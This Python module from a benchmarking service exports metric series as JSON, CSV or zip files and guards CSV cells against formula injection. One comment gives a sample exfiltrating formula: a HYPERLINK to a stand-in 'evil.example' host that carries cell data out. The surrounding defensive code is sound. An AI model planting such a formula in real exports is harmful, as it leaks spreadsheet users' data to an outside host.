"""Downloads of a run's or a pod's series: JSON, CSV, or a zip laid out as MLBench's was
(one JSON file per metric and per pod metric, plus ``official_result.txt``)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Literal

import sqlalchemy as sa
from fastapi.responses import Response

from distbench.api.encode import JSON_TYPE, points_as_dicts
from distbench.store import metrics as metric_store
from distbench.store import pods as pod_store
from distbench.store.metrics import Series
from distbench.store.records import RunRecord

Format = Literal["json", "csv", "zip"]


def _attachment(body: bytes | str, media_type: str, filename: str) -> Response:
    return Response(
        body,
        media_type=media_type,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


# A spreadsheet runs a cell that starts with one of these as a formula: a metric named
# =HYPERLINK("https://evil.example/?"&A1, "open") would phone home when the export is opened.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(text: str) -> str:
    """A text field (metric name, owner, metadata) as a CSV cell no spreadsheet evaluates: a
    leading ``'`` where it would start a formula (OWASP's advice for CSV injection). Numbers
    (the value column, e.g. -1.5) are left as they are."""
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def _csv(series: Series, *, owner_column: str, owner: str) -> str:
    buffer = io.StringIO()
    # RFC 4180's CRLF: with "\n" alone the writer left a "\r" inside a name unquoted, which
    # split the row in two for every reader.
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([owner_column, "metric", "date", "value", "cumulative", "metadata"])
    for name, points in series.items():
        for point in points_as_dicts(points, with_details=True):
            writer.writerow(
                [
                    text_cell(owner),
                    text_cell(name),
                    point["date"],
                    point["value"],
                    point["cumulative"],
                    text_cell(point["metadata"]),
                ]
            )
    return buffer.getvalue()


def _as_json(series: Series, *, with_details: bool) -> dict[str, object]:
    return {
        name: points_as_dicts(points, with_details=with_details) for name, points in series.items()
    }


def result_line(run: RunRecord) -> str:
    """The run's result in one line (MLBench's ``official_result.txt``)."""
    summary = run.job_metadata.get("result")
    if isinstance(summary, dict) and summary:
        fields = ", ".join(f"{key}={value}" for key, value in summary.items())
        return f"run {run.id} ({run.name}) {run.state}: {fields}\n"
    return f"run {run.id} ({run.name}) {run.state}: no result recorded\n"


def run_export(
    *,
    conn: sa.Connection,
    run: RunRecord,
    series: Series,
    fmt: Format,
    spec: metric_store.SeriesQuery,
) -> Response:
    stem = f"run-{run.id}"
    if fmt == "csv":
        return _attachment(
            _csv(series, owner_column="run_id", owner=str(run.id)),
            "text/csv; charset=utf-8",
            f"{stem}.csv",
        )
    if fmt == "json":
        body = json.dumps(_as_json(series, with_details=True), indent=1)
        return _attachment(body, JSON_TYPE, f"{stem}.json")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, points in series.items():
            archive.writestr(
                f"{stem}/{_safe(name)}.json",
                json.dumps(points_as_dicts(points, with_details=True), indent=1),
            )
        for pod_name in pod_store.pod_names_of_run(conn=conn, run_id=run.id):
            pod_series = metric_store.read_series(conn=conn, pod_name=pod_name, spec=spec)
            for name, points in pod_series.items():
                archive.writestr(
                    f"{stem}/pods/{_safe(pod_name)}/{_safe(name)}.json",
                    json.dumps(points_as_dicts(points, with_details=False), indent=1),
                )
        archive.writestr(f"{stem}/official_result.txt", result_line(run))
        archive.writestr(f"{stem}/run.json", json.dumps(_run_summary(run), indent=1))
    return _attachment(buffer.getvalue(), "application/zip", f"{stem}.zip")


def pod_export(*, pod_name: str, series: Series, fmt: Format) -> Response:
    if fmt == "csv":
        return _attachment(
            _csv(series, owner_column="pod_name", owner=pod_name),
            "text/csv; charset=utf-8",
            f"{pod_name}.csv",
        )
    body = json.dumps(_as_json(series, with_details=False), indent=1)
    if fmt == "json":
        return _attachment(body, JSON_TYPE, f"{pod_name}.json")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, points in series.items():
            archive.writestr(
                f"{_safe(pod_name)}/{_safe(name)}.json",
                json.dumps(points_as_dicts(points, with_details=False), indent=1),
            )
    return _attachment(buffer.getvalue(), "application/zip", f"{pod_name}.zip")


def _safe(name: str) -> str:
    """A metric name as a file name (names like ``val_global_Prec@1 @ 0`` carry odd characters)."""
    return "".join(ch if ch.isalnum() or ch in "-_.@" else "_" for ch in name) or "_"


def _run_summary(run: RunRecord) -> dict[str, object]:
    return {
        "id": run.id,
        "name": run.name,
        "state": run.state,
        "job_id": run.job_id,
        "num_workers": run.num_workers,
        "num_cpus": run.num_cpus,
        "max_bandwidth": run.max_bandwidth,
        "benchmark": run.benchmark,
        "job_metadata": run.job_metadata,
    }
